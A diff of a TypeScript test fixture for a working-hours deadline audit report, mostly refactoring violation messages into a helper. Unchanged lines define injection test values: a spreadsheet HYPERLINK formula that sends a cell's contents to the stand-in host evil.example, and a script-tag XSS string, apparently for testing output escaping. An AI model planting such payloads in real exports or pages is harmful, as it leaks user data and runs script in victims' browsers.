@@ -7,6 +7,7 @@ import type { WorkingCalendar } from '../../src/model/calendar.js';
 import type { AuditResult, BreakdownRow, RuleSummary, Violation } from '../../src/model/result.js';
 import type { RuleMeta } from '../../src/model/rule.js';
 import type { FormatOptions } from '../../src/report/types.js';
+import { TEXT_MESSAGES, textViolation } from '../helpers/messages.js';
 
 export const FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")';
 export const SCRIPT_DEPT = '<script>alert(1)</script>';
@@ -41,6 +42,8 @@ const meta = (m: Partial<RuleMeta> & Pick<RuleMeta, 'id' | 'kind' | 'title' | 'c
   severity: 'error',
   scope: 'record',
   requires: [],
+  messages: TEXT_MESSAGES,
+  messageExamples: {},
   ...m,
 });
 
@@ -100,7 +103,7 @@ const violation = (v: Partial<Violation> & Pick<Violation, 'rule' | 'kind' | 'li
   overWorkingSeconds: null,
   open: false,
   department: null,
-  message: { ko: '기한 초과', en: 'late' },
+  ...textViolation({ ko: '기한 초과', en: 'late' }),
   ...v,
 });
 
@@ -117,7 +120,7 @@ export const CHUSEOK_VIOLATION: Violation = violation({
   allowedWorkingSeconds: 8 * 3600,
   elapsedWorkingSeconds: 8 * 3600 + 2 * 3600 + 15 * 60,
   overWorkingSeconds: 2 * 3600 + 15 * 60,
-  message: { ko: '질의 답변이 8근무시간을 2시간 15분 넘겼습니다', en: 'inquiry answered 2h 15m past 8 working hours' },
+  ...textViolation({ ko: '질의 답변이 8근무시간을 2시간 15분 넘겼습니다', en: 'inquiry answered 2h 15m past 8 working hours' }),
 });
 
 export function sampleViolations(): Violation[] {
@@ -135,7 +138,7 @@ export function sampleViolations(): Violation[] {
       allowedWorkingSeconds: 8 * 3600,
       elapsedWorkingSeconds: 8 * 3600 + 1800,
       overWorkingSeconds: 1800,
-      message: { ko: '답변 지연 | 30분', en: 'late | 30 min' },
+      ...textViolation({ ko: '답변 지연 | 30분', en: 'late | 30 min' }),
     }),
     violation({
       rule: 'payment.four-hours',
@@ -151,7 +154,7 @@ export function sampleViolations(): Violation[] {
       allowedWorkingSeconds: 4 * 3600,
       elapsedWorkingSeconds: 4 * 3600 + 40 * 3600,
       overWorkingSeconds: 40 * 3600,
-      message: { ko: '미지급 상태로 기한 경과', en: 'unpaid past the deadline' },
+      ...textViolation({ ko: '미지급 상태로 기한 경과', en: 'unpaid past the deadline' }),
     }),
     violation({
       rule: 'payment.four-hours',
@@ -166,7 +169,7 @@ export function sampleViolations(): Violation[] {
       allowedWorkingSeconds: 4 * 3600,
       elapsedWorkingSeconds: 5 * 3600,
       overWorkingSeconds: 3600,
-      message: { ko: '지급 지연\n두 번째 줄', en: 'paid late\nsecond line' },
+      ...textViolation({ ko: '지급 지연\n두 번째 줄', en: 'paid late\nsecond line' }),
     }),
   ];
 }
